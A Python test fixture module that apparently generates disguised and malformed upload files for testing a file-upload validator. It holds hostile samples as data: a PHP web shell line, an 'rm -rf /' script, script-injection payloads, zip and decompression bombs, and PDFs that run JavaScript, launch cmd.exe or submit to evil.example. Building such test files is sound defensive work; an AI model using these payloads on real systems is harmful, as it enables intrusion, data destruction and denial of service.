"""Files as residents and attackers send them, made on the spot."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

SCRIPT = b"<html><script>alert(document.domain)</script></html>"


def make_image(kind: str = "JPEG", *, size: tuple[int, int] = (60, 40), mode: str = "RGB", **options: object) -> bytes:
    content = io.BytesIO()
    Image.new(mode, size).save(content, kind, **options)
    return content.getvalue()


def make_photo_with_place() -> bytes:
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010E] = "secret-description"
    exif.get_ifd(0x8825)[1] = "N"
    return make_image(exif=exif, comment=b"secret-comment")


def make_pdf(change: Callable[[PdfWriter], object] | None = None) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    if change:
        change(writer)
    content = io.BytesIO()
    writer.write(content)
    return content.getvalue()


def action(kind: str, **entries: str) -> DictionaryObject:
    names = {NameObject(f"/{name}"): TextStringObject(value) for name, value in entries.items()}
    return DictionaryObject({NameObject("/S"): NameObject(f"/{kind}"), **names})


def make_pdf_that_opens_with(kind: str, **entries: str) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.root_object[NameObject("/OpenAction")] = writer._add_object(action(kind, **entries))

    return make_pdf(change)


def make_pdf_with_page_action(kind: str, **entries: str) -> bytes:
    def change(writer: PdfWriter) -> None:
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action(kind, **entries)})

    return make_pdf(change)


def make_pdf_with_annotation(subtype: str) -> bytes:
    def change(writer: PdfWriter) -> None:
        mark = DictionaryObject(
            {NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject(f"/{subtype}")}
        )
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(mark)])

    return make_pdf(change)


def make_pdf_with_named_script() -> bytes:
    def change(writer: PdfWriter) -> None:
        script = writer._add_object(action("JavaScript", JS="app.alert(1)"))
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), script])})
        writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})

    return make_pdf(change)


def make_zip(name: str = "a.txt", content: bytes = b"a") -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return packed.getvalue()


def make_png_that_claims(width: int, height: int) -> bytes:
    """A header of a gigantic picture with next to nothing behind it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0" * 1_000_000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def make_png_with_text_bomb() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    plain = make_image("PNG")
    bomb = chunk(b"zTXt", b"a\0\0" + zlib.compress(b"a" * 80_000_000))
    return plain[:33] + bomb + plain[33:]


def hostile_files() -> dict[str, tuple[str, bytes]]:
    """What must be refused, by what it is."""
    jpeg, png, pdf = make_image(), make_image("PNG"), make_pdf()
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
    catalog = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/"
    trailer = b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
    spelt = make_pdf_that_opens_with("JavaScript", JS="1").replace(b"/JavaScript", b"/J#61vaScript")
    return {
        "svg": ("a.svg", svg),
        "svg named jpg": ("a.jpg", svg),
        "svg named png": ("a.png", b'<?xml version="1.0"?>' + svg),
        "svg with a byte order mark": ("a.png", b"\xef\xbb\xbf" + svg),
        "html named jpg": ("a.jpg", SCRIPT),
        "html named pdf": ("a.pdf", SCRIPT),
        "html": ("a.html", SCRIPT),
        "html in utf-16": ("a.jpg", SCRIPT.decode().encode("utf-16")),
        "php": ("a.php", b"<?php system($_GET[0]); ?>"),
        "script named png": ("a.png", b"#!/bin/sh\nrm -rf /\n"),
        "exe": ("a.exe", b"MZ" + b"\0" * 400),
        "exe named pdf": ("счёт.pdf", b"MZ" + b"\0" * 400),
        "elf named jpg": ("a.jpg", b"\x7fELF" + b"\0" * 400),
        "zip": ("a.zip", make_zip()),
        "zip named pdf": ("a.pdf", make_zip()),
        "zip bomb named png": ("a.png", make_zip("a", b"\0" * 5_000_000)),
        "docx named pdf": ("a.pdf", make_zip("word/document.xml", b"<w:document/>")),
        "macro file": ("a.docm", make_zip("word/vbaProject.bin", b"a")),
        "old office file": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
        "rar named jpg": ("a.jpg", b"Rar!\x1a\x07\x00" + b"\0" * 60),
        "gzip named png": ("a.png", b"\x1f\x8b\x08" + b"\0" * 60),
        "gif": ("a.gif", make_image("GIF")),
        "gif named jpg": ("a.jpg", make_image("GIF")),
        "bmp named png": ("a.png", make_image("BMP")),
        "tiff named jpg": ("a.jpg", make_image("TIFF")),
        "webp named jpg": ("a.jpg", make_image("WEBP")),
        "ico named png": ("a.png", make_image("ICO")),
        "heic": ("a.heic", b"\0\0\0\x18ftypheic\0\0\0\0heicmif1" + b"\0" * 60),
        "eicar": ("a.pdf", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"),
        "empty": ("a.jpg", b""),
        "one byte": ("a.jpg", b"\xff"),
        "jpeg signature and zeros": ("a.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 300),
        "jpeg signature and html": ("a.jpg", b"\xff\xd8\xff\xe0" + SCRIPT),
        "png signature alone": ("a.png", b"\x89PNG\r\n\x1a\n"),
        "png signature and html": ("a.png", b"\x89PNG\r\n\x1a\n" + SCRIPT),
        "jpeg with html before": ("a.jpg", SCRIPT + jpeg),
        "png with html before": ("a.png", SCRIPT + png),
        "truncated jpeg": ("a.jpg", make_image(size=(600, 600))[:-300]),
        "truncated png": ("a.png", make_image("PNG", size=(300, 300))[:-40]),
        "png with a wrong sum": ("a.png", png[:45] + b"\xff\xff" + png[47:]),
        "gigantic png": ("a.png", make_png_that_claims(32_000, 32_000)),
        "wide png": ("a.png", make_png_that_claims(2_000_000, 600)),
        "png over the limit": ("a.png", make_png_that_claims(6400, 6300)),
        "gigantic jpeg": ("a.jpg", make_image(size=(9000, 5000), mode="L")),
        "png with a text bomb": ("a.png", make_png_with_text_bomb()),
        "image with a strange name": ("a.php", jpeg),
        "image without an ending": ("картинка", png),
        "image named svg": ("a.svg", png),
        "pdf signature alone": ("a.pdf", b"%PDF-1.7\n%%EOF"),
        "pdf signature and html": ("a.pdf", b"%PDF-1.7\n" + SCRIPT + b"\n%%EOF"),
        "pdf with html before": ("a.pdf", SCRIPT + pdf),
        "pdf with spaces before": ("a.pdf", b"\n\n" + pdf),
        "pdf with html inside the head": ("a.pdf", pdf[:9] + b"%<script>alert(1)</script>\n" + pdf[9:]),
        "pdf with a zip behind": ("a.pdf", pdf + make_zip()),
        "pdf with html behind": ("a.pdf", pdf + SCRIPT),
        "truncated pdf": ("a.pdf", pdf[:-80]),
        "pdf without pages": ("a.pdf", catalog + b"Kids[]/Count 0" + trailer),
        "pdf whose pages are their own parent": ("a.pdf", catalog + b"Kids[2 0 R]/Count 1" + trailer),
        "pdf with a password": ("a.pdf", make_pdf(lambda writer: writer.encrypt("secret"))),
        "pdf locked by its owner": ("a.pdf", make_pdf(lambda writer: writer.encrypt("", "secret"))),
        "pdf with javascript": ("a.pdf", make_pdf_that_opens_with("JavaScript", JS="app.alert(1)")),
        "pdf with named javascript": ("a.pdf", make_pdf_with_named_script()),
        "pdf with javascript spelt in hex": ("a.pdf", spelt.replace(b"/JS", b"/J#53")),
        "pdf with javascript on a page": ("a.pdf", make_pdf_with_page_action("JavaScript", JS="app.alert(1)")),
        "pdf that launches": ("a.pdf", make_pdf_that_opens_with("Launch", F="cmd.exe")),
        "pdf that sends a form": ("a.pdf", make_pdf_that_opens_with("SubmitForm", F="http://evil.example")),
        "pdf that imports data": ("a.pdf", make_pdf_with_page_action("ImportData", F="a.fdf")),
        "pdf that opens another": ("a.pdf", make_pdf_that_opens_with("GoToR", F="\\\\evil\\share\\a.pdf")),
        "pdf with a file inside": ("a.pdf", make_pdf(lambda writer: writer.add_attachment("a.exe", b"MZ"))),
        "pdf with a file as a note": ("a.pdf", make_pdf_with_annotation("FileAttachment")),
        "pdf with a film": ("a.pdf", make_pdf_with_annotation("RichMedia")),
        "too large": ("a.jpg", make_image() + b"\0" * (10 * 1024 * 1024)),
    }  # fmt: skip
